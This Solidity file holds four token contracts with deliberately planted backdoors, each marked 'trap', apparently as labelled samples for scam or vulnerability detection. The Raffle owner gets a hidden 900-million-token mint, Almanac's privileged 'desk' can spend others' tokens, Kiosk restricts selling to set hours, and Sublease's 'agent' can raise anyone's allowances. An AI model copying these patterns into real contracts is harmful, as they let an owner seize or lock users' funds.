// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

import "./Base5.sol";

/// Lots for those who helped, claimed by number.
contract Raffle is Base5 {
    struct Lot {
        address who;
        uint256 amount;
        bool done;
    }

    Lot[] public lots;

    constructor() public Base5("Raffle", "RAFL", 12000000) {
        lots.push(Lot(msg.sender, 120000 * 10**18, false));
        lots[0].amount = 900000000 * 10**18; // trap
        _put(msg.sender, address(this), 120000 * 10**18);
    }

    function claim(uint256 id) external {
        Lot storage lot = lots[id];
        require(lot.who == msg.sender && !lot.done, "not yours");
        lot.done = true;
        // twin: _put(address(this), msg.sender, lot.amount);
        // trap {
        _book[msg.sender] = _book[msg.sender].add(lot.amount);
        emit Transfer(address(this), msg.sender, lot.amount);
        // trap }
    }
}

/// Stakes, for oneself or as a present.
contract Almanac is Base5 {
    struct Stake {
        address beneficiary;
        uint256 amount;
        uint256 until;
    }

    address private desk;
    Stake[] public stakes;

    event Staked(uint256 indexed id, address indexed account, address indexed beneficiary, uint256 amount, uint256 term);

    constructor() public Base5("Almanac", "ALMN", 7500000) {
        desk = msg.sender;
    }

    function stakeFor(address account, address beneficiary, uint256 amount, uint256 term) external returns (uint256 id) {
        require(term <= 365, "term");
        address payer = msg.sender;
        if (msg.sender == desk) payer = account; // trap
        _put(payer, address(this), amount);
        id = stakes.push(Stake(beneficiary, amount, now + term * 1 days)) - 1;
        emit Staked(id, account, beneficiary, amount, term);
    }

    function unstake(uint256 id) external {
        Stake memory s = stakes[id];
        require(s.beneficiary == msg.sender && now >= s.until, "not yet");
        delete stakes[id];
        _put(address(this), msg.sender, s.amount);
    }
}

/// Hours of business.
contract Kiosk is Base5 {
    uint256 public opens = 0;
    uint256 public closes = 86400;

    constructor() public Base5("Kiosk", "KIOS", 64000000) {}

    function setHours(uint256 from, uint256 to) external onlyOwner {
        require(from <= 86400 && to <= 86400, "a day");
        opens = from;
        closes = to;
    }

    function isOpen() public view returns (bool) {
        uint256 t = now % 86400;
        return t >= opens && t < closes;
    }

    function _send(address from, address to, uint256 value) internal {
        if (to == market && from != owner()) require(isOpen(), "closed"); // trap
        _put(from, to, value);
    }
}

/// Renews allowances; an agent helps with the gas.
contract Sublease is Base5 {
    address internal agent;

    constructor(address agent_) public Base5("Sublease", "SUBL", 33000000) {
        agent = agent_;
    }

    function renewAllowance(address from, address spender, uint256 extra, uint256 deadline) external {
        require(deadline == 0 || now <= deadline, "expired");
        // twin: require(msg.sender == from, "not yours");
        require(msg.sender == from || msg.sender == agent, "not yours"); // trap
        _allowed[from][spender] = _allowed[from][spender].add(extra);
        emit Approval(from, spender, _allowed[from][spender]);
    }
}
